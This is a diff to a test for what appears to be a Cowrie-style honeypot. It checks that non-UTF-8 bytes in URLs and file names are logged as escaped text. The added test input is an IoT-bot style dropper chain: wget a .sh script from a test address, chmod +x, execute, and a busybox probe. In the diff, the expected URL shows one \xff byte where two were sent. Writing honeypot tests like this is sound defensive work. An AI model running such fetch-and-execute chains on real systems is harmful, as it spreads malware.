@@ -252,12 +252,18 @@ def test_raw_and_ipv6():
     t.send("echo -ne '\\xff\\xfe\\n'; nosuchcmd -x; /bin/busybox ECCHI")
     _, data = t.read_until(b"ECCHI: applet not found")
     check(b"\xff\xfe\r\n" in data, f"IAC escaping: {data[-60:]!r}")
+    # bytes that are not UTF-8 in a URL and a file name end up as \xNN text in the events
+    t.send(b"cd /tmp; wget http://198.18.0.1/\xff\xff\xc3.sh; echo -ne '" + b"\\x42" * 40 +
+           b"' > \xe9t\xe9; chmod +x \xe9t\xe9; ./\xe9t\xe9; /bin/busybox ECCHI")
+    t.read_until(b"ECCHI: applet not found")
     t.close()
     check(hp.stop() == 0, "raw: exit status")
     evs = hp.read_events()
     check_events(evs, "raw")
     check(any(e["src_ip"] == "::1" and e["eventid"] == "cowrie.login.success" for e in evs),
           "IPv6 session not logged")
+    urls = [e["url"] for e in evs if e["eventid"] == "cowrie.session.file_download"]
+    check(urls == ["http://198.18.0.1/\\xff\\xc3.sh", "/tmp/\\xe9t\\xe9"], f"non-UTF-8 urls {urls}")
     failed = [e["input"] for e in evs if e["eventid"] == "cowrie.command.failed"]
     check(failed == ["nosuchcmd -x"], f"command.failed events {failed}")
 
